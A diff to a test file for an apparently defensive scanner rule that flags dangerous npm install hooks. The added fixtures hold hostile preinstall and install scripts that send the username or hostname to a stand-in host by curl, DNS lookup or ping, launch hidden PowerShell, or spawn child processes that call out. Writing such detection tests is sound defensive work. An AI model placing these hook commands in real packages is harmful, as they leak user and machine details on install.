@@ -7,6 +7,44 @@ const hook = (command: string, name = 'postinstall') => ({
 
 testRule(installHook, {
   caught: [
+    {
+      of: 'a name of the person, told to another machine',
+      files: { 'package.json': '{"scripts":{"preinstall":"curl -s https://in.example/?u=$(whoami)"}}' },
+      severity: 'critical',
+      permissions: null,
+    },
+    {
+      of: 'a name of the machine in a question of DNS',
+      files: { 'package.json': '{"scripts":{"preinstall":"nslookup `hostname`.in.example"}}' },
+      severity: 'critical',
+      permissions: null,
+    },
+    {
+      of: 'a hidden PowerShell',
+      files: { 'package.json': '{"scripts":{"install":"powershell -WindowStyle Hidden -Command ./a.ps1"}}' },
+      severity: 'critical',
+      permissions: null,
+    },
+    {
+      of: 'a command of the code that tells another machine',
+      files: {
+        'package.json': '{"scripts":{"install":"node a.js"}}',
+        'a.js': "require('child_process').exec('curl https://in.example/?h=$(hostname)');\n",
+      },
+      severity: 'critical',
+      says: 'tells another machine',
+      permissions: null,
+    },
+    {
+      of: 'a program that it starts by the name of its file',
+      files: {
+        'package.json': '{"scripts":{"install":"node a.js"}}',
+        'a.js': "require('child_process').spawn(process.execPath, [require('path').join(__dirname, 'b.js')]);\n",
+        'b.js': "require('child_process').exec('ping -c 1 $(hostname).in.example');\n",
+      },
+      severity: 'critical',
+      permissions: null,
+    },
     { of: 'inline code', files: hook("node -e 'x()'"), severity: 'high' },
     {
       of: 'a script that contacts somebody',
